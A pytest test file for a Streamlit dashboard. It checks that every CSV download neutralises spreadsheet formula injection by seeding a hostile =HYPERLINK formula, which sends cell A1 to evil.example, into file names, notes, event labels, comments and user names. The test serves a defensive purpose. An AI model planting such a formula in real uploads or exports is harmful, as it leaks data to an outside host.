"""Every download the pages offer is defused: hostile text that starts a formula stays text.

Hostile text is put everywhere a person can type it (a note in the uploaded file, the file's
name, an event label, the user's name, a comment); every page is visited as an admin, and every
CSV any download button would hand out is read back cell by cell.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import streamlit as st
from streamlit.delta_generator import DeltaGenerator
from streamlit.testing.v1 import AppTest

from i18n import t

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klicka")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAGES = (
    "pages/overview.py",
    "pages/indicator.py",
    "pages/catalog.py",
    "pages/upload.py",
    "pages/history.py",
    "pages/events.py",
    "pages/audit.py",
)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    from ingest.pipeline import ingest_upload
    from storage import add_comment, add_event, open_database

    path = tmp_path_factory.mktemp("hostile") / "hostile.duckdb"
    db = open_database(path, busy_timeout=5)
    db.create()
    seed = (ROOT / "tests" / "fixtures" / "seed.csv").read_text(encoding="utf-8")
    lines = seed.splitlines()
    quoted = '"' + HOSTILE.replace('"', '""') + '"'
    lines[1] = lines[1][: lines[1].rfind(",") + 1] + quoted
    report = ingest_upload(db, "\n".join(lines).encode(), f"{HOSTILE}.csv", user="@evil")
    assert report.status == "committed", report.errors
    add_event(db, period="2026-02-01", label_sv=HOSTILE, label_en="+evil", user="-evil")
    add_comment(
        db,
        indicator_id="reported_partner_violence_women",
        area_code="STHLM",
        period="2026-01-01",
        kind="analysis",
        text=HOSTILE,
        user="@evil",
    )
    return path


@pytest.fixture
def downloads(monkeypatch) -> list[tuple[str, object]]:
    """(label, data) of every download button drawn, by st.* or in a column."""
    seen: list[tuple[str, object]] = []
    main, method = st.download_button, DeltaGenerator.download_button

    def record(label, data, *args, **kwargs):
        seen.append((label, data() if callable(data) else data))
        return main(label, data, *args, **kwargs)

    def record_method(self, label, data, *args, **kwargs):
        seen.append((label, data() if callable(data) else data))
        return method(self, label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", record)
    monkeypatch.setattr(DeltaGenerator, "download_button", record_method)
    return seen


def csv_cells(payload: bytes) -> list[str]:
    text = payload.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


@pytest.mark.parametrize("brief", ["0", "1"])
def test_every_csv_download_is_defused(monkeypatch, hostile_db, downloads, brief):
    monkeypatch.setenv("LAGESBILD_DB", str(hostile_db))
    monkeypatch.setenv("LAGESBILD_LOCAL_ROLE", "admin")
    monkeypatch.setenv("LAGESBILD_LOCAL_USER", "@evil")
    monkeypatch.delenv("LAGESBILD_PUBLIC", raising=False)
    st.cache_resource.clear()
    st.cache_data.clear()
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=120)
    at.query_params["brief"] = brief
    at.run()
    for page in PAGES:
        at.switch_page(page).run()
        assert not at.exception, (page, at.exception)
    # The upload page's own downloads: a file's problems and a file's revisions.
    at.switch_page("pages/upload.py").run()
    wrong = f"indicator_id,period,area_code,value\nreported_rape,2026-01,STHLM,{HOSTILE}\n"
    revised = (
        "indicator_id,period,area_code,value\nreported_partner_violence_women,2026-01,STHLM,741\n"
    )
    files = [("fel.csv", wrong.encode()), (f"{HOSTILE}.csv", revised.encode())]
    at.file_uploader(key="upload_files").set_value([(n, b, "text/csv") for n, b in files]).run()
    assert not at.exception, at.exception
    labels = {label for label, _ in downloads}
    if brief == "0":  # briefing mode shows a file's counts only: no problem list, no revisions
        assert {t("upload_download_errors"), t("upload_download_revisions")} <= labels
    payloads = [data for _, data in downloads if isinstance(data, bytes)]
    assert len(payloads) >= 8  # template, two catalog files, indicator, history, events, audit
    cells = [cell for payload in payloads for cell in csv_cells(payload)]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    found = "\n".join(cells)
    if brief == "0":  # briefing mode leaves notes out and masks numbers in labels ("A1")
        assert "'" + HOSTILE in found  # survives as text (event label, note, file name)
    assert "'@evil" in found  # the user's name in the history and audit downloads
